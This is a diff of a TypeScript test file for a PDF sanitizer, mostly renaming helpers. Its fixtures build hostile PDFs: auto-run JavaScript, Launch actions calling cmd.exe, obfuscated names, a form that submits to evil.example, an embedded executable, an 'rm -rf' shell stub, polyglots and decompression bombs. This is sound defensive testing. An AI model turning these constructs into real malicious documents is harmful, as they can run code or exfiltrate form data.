@@ -1,31 +1,34 @@
 import { createHash } from 'node:crypto';
 import { constants, deflateRawSync, deflateSync } from 'node:zlib';
-import { eicarTestFile } from '@participe/connectors/scanner-stand-in';
+import { eicarTestFile } from '@participe/connectors/fake-virus-scanner';
 import {
   buildPdf,
   endlessNumbersPdf,
   longStringPdf,
-  exifData,
+  buildExifData,
   squareDrawing,
-  jpegSegment,
-  jpegWith,
-  pdfStream,
-  pdfWith,
+  buildJpegSegment,
+  buildJpeg,
+  buildPdfStream,
+  buildOnePagePdf,
   baselineJpeg,
   updatePdf,
 } from '@participe/file-sanitizer/samples';
-import { type HostileFile, cleaned, refused } from './hostile-file.ts';
-import { packedPdf } from './packed-pdf.ts';
+import { type HostileFile, buildSanitizedFile, buildRefusedFile } from './hostile-file.ts';
+import { buildPackedPdf } from './packed-pdf.ts';
 
 const alert = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
 const launch = '<</S/Launch/F(calc.exe)/Win<</F(cmd.exe)>>>>';
 const acting = ['app.alert', 'JavaScript', 'OpenAction', 'Launch', 'calc.exe', 'cmd.exe'];
 const box = '/Type/Annot/Rect[0 0 50 50]';
-const look = pdfStream('1 0 0 rg 0 0 50 50 re f', '/Type/XObject/Subtype/Form/BBox[0 0 50 50]');
+const look = buildPdfStream(
+  '1 0 0 rg 0 0 50 50 re f',
+  '/Type/XObject/Subtype/Form/BBox[0 0 50 50]',
+);
 
 /** Returns a PDF image that declares the given size. */
 const picture = (size: string, packed = '/DCTDecode'): Buffer =>
-  pdfStream(
+  buildPdfStream(
     baselineJpeg(),
     `/Type/XObject/Subtype/Image${size}/ColorSpace/DeviceGray/BitsPerComponent 8/Filter${packed}`,
   );
@@ -44,131 +47,151 @@ const program = Buffer.concat([Buffer.from('MZ'), Buffer.from('This program cann
 
 /** PDFs with active content or attachments, of which the service stores only the pages. */
 const acted: readonly HostileFile[] = [
-  cleaned(
+  buildSanitizedFile(
     'a PDF that runs when it is opened',
-    () => pdfWith({ catalog: `/OpenAction ${alert}` }),
+    () => buildOnePagePdf({ catalog: `/OpenAction ${alert}` }),
     acting,
   ),
-  cleaned(
+  buildSanitizedFile(
     'a PDF with a script among its names',
-    () => pdfWith({ catalog: `/Names<</JavaScript<</Names[(a) ${alert}]>>>>` }),
+    () => buildOnePagePdf({ catalog: `/Names<</JavaScript<</Names[(a) ${alert}]>>>>` }),
     acting,
   ),
-  cleaned('a page that runs when shown', () => pdfWith({ page: `/AA<</O ${alert}>>` }), acting),
-  cleaned(
+  buildSanitizedFile(
+    'a page that runs when shown',
+    () => buildOnePagePdf({ page: `/AA<</O ${alert}>>` }),
+    acting,
+  ),
+  buildSanitizedFile(
     'a script under a name in disguise',
-    () => pdfWith({ catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>' }),
+    () => buildOnePagePdf({ catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>' }),
     acting,
   ),
-  cleaned('a script in a packed object', () => packedPdf(`/OpenAction ${alert}`), acting),
-  cleaned(
+  buildSanitizedFile(
+    'a script in a packed object',
+    () => buildPackedPdf(`/OpenAction ${alert}`),
+    acting,
+  ),
+  buildSanitizedFile(
     'a script that was added behind the end',
-    () => updatePdf(pdfWith(), 1, [`<</Type/Catalog/Pages 2 0 R/OpenAction ${alert}>>`]),
+    () => updatePdf(buildOnePagePdf(), 1, [`<</Type/Catalog/Pages 2 0 R/OpenAction ${alert}>>`]),
     acting,
   ),
-  cleaned(
+  buildSanitizedFile(
     'a link that starts a program',
-    () => pdfWith({ page: `/Annots[<<${box}/Subtype/Link/A ${launch}>>]` }),
+    () => buildOnePagePdf({ page: `/Annots[<<${box}/Subtype/Link/A ${launch}>>]` }),
     acting,
   ),
-  cleaned(
+  buildSanitizedFile(
     'a link to another place',
     () =>
-      pdfWith({ page: `/Annots[<<${box}/Subtype/Link/A<</S/URI/URI(http://evil.example/)>>>>]` }),
+      buildOnePagePdf({
+        page: `/Annots[<<${box}/Subtype/Link/A<</S/URI/URI(http://evil.example/)>>>>]`,
+      }),
     ['evil.example', 'URI'],
   ),
-  cleaned(
+  buildSanitizedFile(
     'a button that sends what is written',
     () =>
-      pdfWith({
+      buildOnePagePdf({
         page: `/Annots[<<${box}/Subtype/Widget/FT/Btn/AP<</N 5 0 R>>/A<</S/SubmitForm/F(http://evil.example/)>>>>]`,
         more: [look],
       }),
     ['evil.example', 'SubmitForm', 'Widget'],
   ),
-  cleaned(
+  buildSanitizedFile(
     'a box with a script for every key',
     () =>
-      pdfWith({
+      buildOnePagePdf({
         catalog: '/AcroForm<</Fields[6 0 R]/NeedAppearances true>>',
         page: '/Annots[6 0 R]',
         more: [look, `<<${box}/Subtype/Widget/FT/Tx/T(a)/V(b)/AP<</N 5 0 R>>/AA<</K ${alert}>>>>`],
       }),
     [...acting, 'AcroForm', 'Widget'],
   ),
-  cleaned(
+  buildSanitizedFile(
     'a form of its own kind (XFA)',
-    () => pdfWith({ catalog: '/AcroForm<</XFA 5 0 R>>', more: [pdfStream('<xdp:xdp/>')] }),
+    () =>
+      buildOnePagePdf({ catalog: '/AcroForm<</XFA 5 0 R>>', more: [buildPdfStream('<xdp:xdp/>')] }),
     ['XFA', 'xdp'],
   ),
-  cleaned(
+  buildSanitizedFile(
     'a program among its files',
     () =>
-      pdfWith({
+      buildOnePagePdf({
         catalog: '/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>',
         more: [
           '<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>',
-          pdfStream(program, '/Type/EmbeddedFile'),
+          buildPdfStream(program, '/Type/EmbeddedFile'),
         ],
       }),
     ['EmbeddedFile', 'a.exe', 'cannot be run'],
   ),
-  cleaned(
+  buildSanitizedFile(
     'a program pinned to a page',
     () =>
-      pdfWith({
+      buildOnePagePdf({
         page: `/Annots[<<${box}/Subtype/FileAttachment/FS 5 0 R/AP<</N 7 0 R>>>>]`,
-        more: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', pdfStream(program), look],
+        more: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', buildPdfStream(program), look],
       }),
     ['FileAttachment', 'a.exe', 'cannot be run'],
   ),
-  cleaned(
+  buildSanitizedFile(
     'a film that plays',
     () =>
-      pdfWith({
+      buildOnePagePdf({
         page: `/Annots[<<${box}/Subtype/RichMedia/RichMediaContent 5 0 R/AP<</N 6 0 R>>>>]`,
-        more: [pdfStream('FWS'), look],
+        more: [buildPdfStream('FWS'), look],
       }),
     ['RichMedia', 'FWS'],
   ),
-  cleaned(
+  buildSanitizedFile(
     'a picture that stands elsewhere',
     () =>
-      pdfWith({
+      buildOnePagePdf({
         resources: '/XObject<</X 5 0 R>>',
         more: [
-          pdfStream(squareDrawing, '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(//evil.example/x)'),
+          buildPdfStream(
+            squareDrawing,
+            '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(//evil.example/x)',
+          ),
         ],
       }),
     ['evil.example'],
   ),
-  cleaned(
+  buildSanitizedFile(
     'a photograph on a page that knows where it was taken',
     () =>
-      pdfWith({
+      buildOnePagePdf({
         resources: '/XObject<</X 5 0 R>>',
         more: [
-          pdfStream(
-            jpegWith(exifData(1, 'GPS 40.4168N'), jpegSegment(0xfe, Buffer.from('<?php'))),
+          buildPdfStream(
+            buildJpeg(
+              buildExifData(1, 'GPS 40.4168N'),
+              buildJpegSegment(0xfe, Buffer.from('<?php')),
+            ),
             '/Type/XObject/Subtype/Image/Width 20/Height 12/Filter/DCTDecode',
           ),
         ],
       }),
     ['GPS', 'Exif', 'php'],
   ),
-  cleaned(
+  buildSanitizedFile(
     'papers about the person who wrote it',
     () =>
-      pdfWith({
+      buildOnePagePdf({
         catalog: '/Metadata 5 0 R/PieceInfo<</A<</Private 5 0 R>>>>',
-        more: [pdfStream('<x:xmpmeta>Ana Martínez</x:xmpmeta>'), '<</Author(Ana)/Title(Secreto)>>'],
+        more: [
+          buildPdfStream('<x:xmpmeta>Ana Martínez</x:xmpmeta>'),
+          '<</Author(Ana)/Title(Secreto)>>',
+        ],
         trailer: '/Info 6 0 R',
       }),
     ['xmpmeta', 'Secreto', 'Author'],
   ),
-  cleaned(
+  buildSanitizedFile(
     'an object that no page needs',
-    () => pdfWith({ more: [pdfStream('#!/bin/sh rm -rf')] }),
+    () => buildOnePagePdf({ more: [buildPdfStream('#!/bin/sh rm -rf')] }),
     ['/bin/sh'],
   ),
 ];
@@ -179,84 +202,94 @@ const digest = createHash('md5').update('key').digest('hex');
 
 /** Returns a PDF that takes long to read and is then refused for its broken end. */
 export const slowPdf = (): Buffer =>
-  pdfWith({ content: pdfStream(endless(60), '/Filter/FlateDecode') });
+  buildOnePagePdf({ content: buildPdfStream(endless(60), '/Filter/FlateDecode') });
 
 /** PDFs that are refused: encrypted, broken, polyglot, or oversized when unpacked. */
 const broken: readonly HostileFile[] = [
-  refused('a PDF under a key', () =>
-    pdfWith({ trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P -4>>/ID[<${digest}><${digest}>]` }),
+  buildRefusedFile('a PDF under a key', () =>
+    buildOnePagePdf({
+      trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P -4>>/ID[<${digest}><${digest}>]`,
+    }),
   ),
-  refused('a PDF under the key of somebody', () =>
-    pdfWith({ content: pdfStream(squareDrawing, '/Filter/Crypt') }),
+  buildRefusedFile('a PDF under the key of somebody', () =>
+    buildOnePagePdf({ content: buildPdfStream(squareDrawing, '/Filter/Crypt') }),
   ),
-  refused('half a PDF', () => pdfWith().subarray(0, 200)),
-  refused('a PDF without its end', () => pdfWith().subarray(0, -7)),
-  refused('the beginning of a PDF', () => Buffer.from('%PDF-1.7\n')),
-  refused('a PDF with a packed file behind it', () =>
-    Buffer.concat([pdfWith(), Buffer.from('PK\u0003\u0004')]),
+  buildRefusedFile('half a PDF', () => buildOnePagePdf().subarray(0, 200)),
+  buildRefusedFile('a PDF without its end', () => buildOnePagePdf().subarray(0, -7)),
+  buildRefusedFile('the beginning of a PDF', () => Buffer.from('%PDF-1.7\n')),
+  buildRefusedFile('a PDF with a packed file behind it', () =>
+    Buffer.concat([buildOnePagePdf(), Buffer.from('PK\u0003\u0004')]),
   ),
-  refused('a PDF with a page of the web behind it', () =>
-    Buffer.concat([pdfWith(), Buffer.from('<script>alert(1)</script>')]),
+  buildRefusedFile('a PDF with a page of the web behind it', () =>
+    Buffer.concat([buildOnePagePdf(), Buffer.from('<script>alert(1)</script>')]),
   ),
-  refused('a picture followed by a PDF', () => Buffer.concat([Buffer.from('GIF89a'), pdfWith()])),
-  refused('a page of the web with a PDF in it', () =>
-    Buffer.concat([Buffer.from('<!--'), pdfWith()]),
+  buildRefusedFile('a picture followed by a PDF', () =>
+    Buffer.concat([Buffer.from('GIF89a'), buildOnePagePdf()]),
   ),
-  refused('a PDF behind a mark of byte order', () =>
-    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), pdfWith()]),
+  buildRefusedFile('a page of the web with a PDF in it', () =>
+    Buffer.concat([Buffer.from('<!--'), buildOnePagePdf()]),
   ),
-  refused('a PDF whose table points elsewhere', () =>
-    cut(pdfWith(), '%\u00e2\u00e3\u00cf\u00d3\n', '% moved everything\n'),
+  buildRefusedFile('a PDF behind a mark of byte order', () =>
+    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), buildOnePagePdf()]),
   ),
-  refused('a PDF with more objects than fit', () => cut(pdfWith(), '1 4\n0', '1 999999999\n0')),
-  refused('a PDF whose parts run in a circle', () => {
-    const text = pdfWith().toString('latin1');
+  buildRefusedFile('a PDF whose table points elsewhere', () =>
+    cut(buildOnePagePdf(), '%\u00e2\u00e3\u00cf\u00d3\n', '% moved everything\n'),
+  ),
+  buildRefusedFile('a PDF with more objects than fit', () =>
+    cut(buildOnePagePdf(), '1 4\n0', '1 999999999\n0'),
+  ),
+  buildRefusedFile('a PDF whose parts run in a circle', () => {
+    const text = buildOnePagePdf().toString('latin1');
     return Buffer.from(
       text.replace(/>>\nstartxref\n(\d+)/u, '/Prev $1>>\nstartxref\n$1'),
       'latin1',
     );
   }),
-  refused('a PDF without a page', () =>
+  buildRefusedFile('a PDF without a page', () =>
     buildPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>']),
   ),
-  refused('pages that run in a circle', () =>
+  buildRefusedFile('pages that run in a circle', () =>
     buildPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1>>']),
   ),
-  refused('an object that holds itself', () => packedPdf('', true)),
-  refused('values without end in each other', () =>
-    pdfWith({ resources: `/Font ${'['.repeat(5000)}${']'.repeat(5000)}` }),
+  buildRefusedFile('an object that holds itself', () => buildPackedPdf('', true)),
+  buildRefusedFile('values without end in each other', () =>
+    buildOnePagePdf({ resources: `/Font ${'['.repeat(5000)}${']'.repeat(5000)}` }),
   ),
-  refused('a stream that is longer than its file', () =>
-    pdfWith({ content: Buffer.from('<</Length 99999999>>\nstream\nx\nendstream') }),
+  buildRefusedFile('a stream that is longer than its file', () =>
+    buildOnePagePdf({ content: Buffer.from('<</Length 99999999>>\nstream\nx\nendstream') }),
   ),
-  refused('a stream whose length leads to itself', () =>
-    pdfWith({ content: Buffer.from('<</Length 4 0 R>>\nstream\nx\nendstream') }),
+  buildRefusedFile('a stream whose length leads to itself', () =>
+    buildOnePagePdf({ content: Buffer.from('<</Length 4 0 R>>\nstream\nx\nendstream') }),
   ),
-  refused('a stream that unfolds without end', () =>
-    pdfWith({ content: pdfStream(endless(), '/Filter/FlateDecode') }),
+  buildRefusedFile('a stream that unfolds without end', () =>
+    buildOnePagePdf({ content: buildPdfStream(endless(), '/Filter/FlateDecode') }),
   ),
-  refused('a stream that unfolds twice', () =>
-    pdfWith({ content: pdfStream(deflateSync(endless()), '/Filter[/FlateDecode/FlateDecode]') }),
+  buildRefusedFile('a stream that unfolds twice', () =>
+    buildOnePagePdf({
+      content: buildPdfStream(deflateSync(endless()), '/Filter[/FlateDecode/FlateDecode]'),
+    }),
   ),
-  refused('an object stream that unfolds to one string', longStringPdf),
-  refused('an object stream that names fifty million objects', endlessNumbersPdf),
-  refused('a stream of runs that add up', () =>
-    pdfWith({ content: pdfStream(Buffer.alloc(5 * 1024 * 1024, 0x81), '/Filter/RunLengthDecode') }),
+  buildRefusedFile('an object stream that unfolds to one string', longStringPdf),
+  buildRefusedFile('an object stream that names fifty million objects', endlessNumbersPdf),
+  buildRefusedFile('a stream of runs that add up', () =>
+    buildOnePagePdf({
+      content: buildPdfStream(Buffer.alloc(5 * 1024 * 1024, 0x81), '/Filter/RunLengthDecode'),
+    }),
   ),
-  refused('a picture as large as a field', () =>
-    pdfWith({
+  buildRefusedFile('a picture as large as a field', () =>
+    buildOnePagePdf({
       resources: '/XObject<</X 5 0 R>>',
       more: [picture('/Width 100000/Height 100000')],
     }),
   ),
-  refused('a picture packed by nobody knows what', () =>
-    pdfWith({
+  buildRefusedFile('a picture packed by nobody knows what', () =>
+    buildOnePagePdf({
       resources: '/XObject<</X 5 0 R>>',
       more: [picture('/Width 9/Height 9', '/MadeUpDecode')],
     }),
   ),
-  refused('a PDF in which the scanner finds something', () =>
-    pdfWith({ content: pdfStream(`% ${eicarTestFile}`) }),
+  buildRefusedFile('a PDF in which the scanner finds something', () =>
+    buildOnePagePdf({ content: buildPdfStream(`% ${eicarTestFile}`) }),
   ),
 ];
 
